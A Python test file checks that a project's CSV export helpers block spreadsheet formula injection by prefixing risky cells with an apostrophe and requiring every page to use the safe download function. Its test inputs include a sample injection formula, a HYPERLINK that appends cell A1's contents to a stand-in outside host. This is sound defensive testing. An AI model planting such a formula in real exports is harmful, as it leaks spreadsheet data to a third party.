"""Spreadsheet downloads: text that a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest

from valuemodel.present.export import csv_download, spreadsheet_safe, spreadsheet_text
from valuemodel.present.value import cash_flow_csv

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2+3", "\t=1", "\r=1"],
)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["CI platform", "2025 Q1", "", "a=b", -5000.0, 3, None])
def test_other_cells_and_numbers_are_unchanged(value: object) -> None:
    assert spreadsheet_text(value) == value


def test_a_download_keeps_negative_numbers_as_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame({"name": ['=HYPERLINK("http://x")', "ok"], "net": [-5.5, 2.0]})
    back = pd.read_csv(io.BytesIO(csv_download(frame)))
    assert list(back["name"]) == ['\'=HYPERLINK("http://x")', "ok"]
    assert list(back["net"]) == [-5.5, 2.0]
    assert spreadsheet_safe(frame)["net"].dtype == float


def test_the_cash_flow_download_goes_through_the_rule() -> None:
    quarters = pd.DataFrame(
        {
            "quarter": ["@SUM(1)", "2025 Q2"],
            "months": [3, 3],
            "cost": [1.0, 2.0],
            "risk_adjusted_savings": [1.0, 2.0],
            "net_value": [-1.0, 0.0],
            "cumulative_net_value": [-1.0, -1.0],
        }
    )
    text = cash_flow_csv(quarters, "USD").decode("utf-8")
    assert "\n'@SUM(1)," in text
    assert ",-1.0," in text


def test_no_page_writes_a_csv_download_without_the_rule() -> None:
    for path in [*ROOT.joinpath("views").glob("*.py"), *ROOT.joinpath("dashboard").glob("*.py")]:
        source = path.read_text(encoding="utf-8")
        assert ".to_csv(" not in source, f"{path.name}: use valuemodel.present.export.csv_download"
